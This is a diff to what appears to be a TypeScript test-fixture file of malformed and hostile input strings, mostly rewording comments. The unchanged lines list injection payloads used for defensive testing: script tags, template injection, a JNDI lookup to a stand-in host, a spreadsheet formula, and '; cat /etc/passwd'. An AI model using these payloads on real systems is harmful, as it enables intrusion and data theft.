@@ -1,4 +1,7 @@
-/** Texts that break programs: injection into SQL, shells, templates, paths and mails, and the edges of Unicode and numbers. */
+/**
+ * Texts that break programs: injection into SQL, shells, templates, paths and mails, and edge cases of Unicode and
+ * numbers.
+ */
 export const NAUGHTY_TEXTS: readonly string[] = [
   '',
   ' ',
@@ -56,9 +59,9 @@ export const NAUGHTY_TEXTS: readonly string[] = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   '{{7*7}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
   '${7*7}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack itself
   '${jndi:ldap://other.example/a}',
   '=cmd|calc!A1',
   '; cat /etc/passwd',
@@ -71,7 +74,7 @@ export const NAUGHTY_TEXTS: readonly string[] = [
   'a'.repeat(30_000),
 ];
 
-/** Bodies that are no body, or one that is read in different ways. */
+/** Bodies that are not JSON, or that parsers read differently. */
 export const NAUGHTY_BODIES: readonly string[] = [
   '',
   ' ',
@@ -103,7 +106,7 @@ export const NAUGHTY_BODIES: readonly string[] = [
   'username=a&password=b',
 ];
 
-/** As parts of a path, percent-encoded already. */
+/** Path segments, already percent-encoded. */
 export const NAUGHTY_SEGMENTS: readonly string[] = [
   '%',
   '%0',
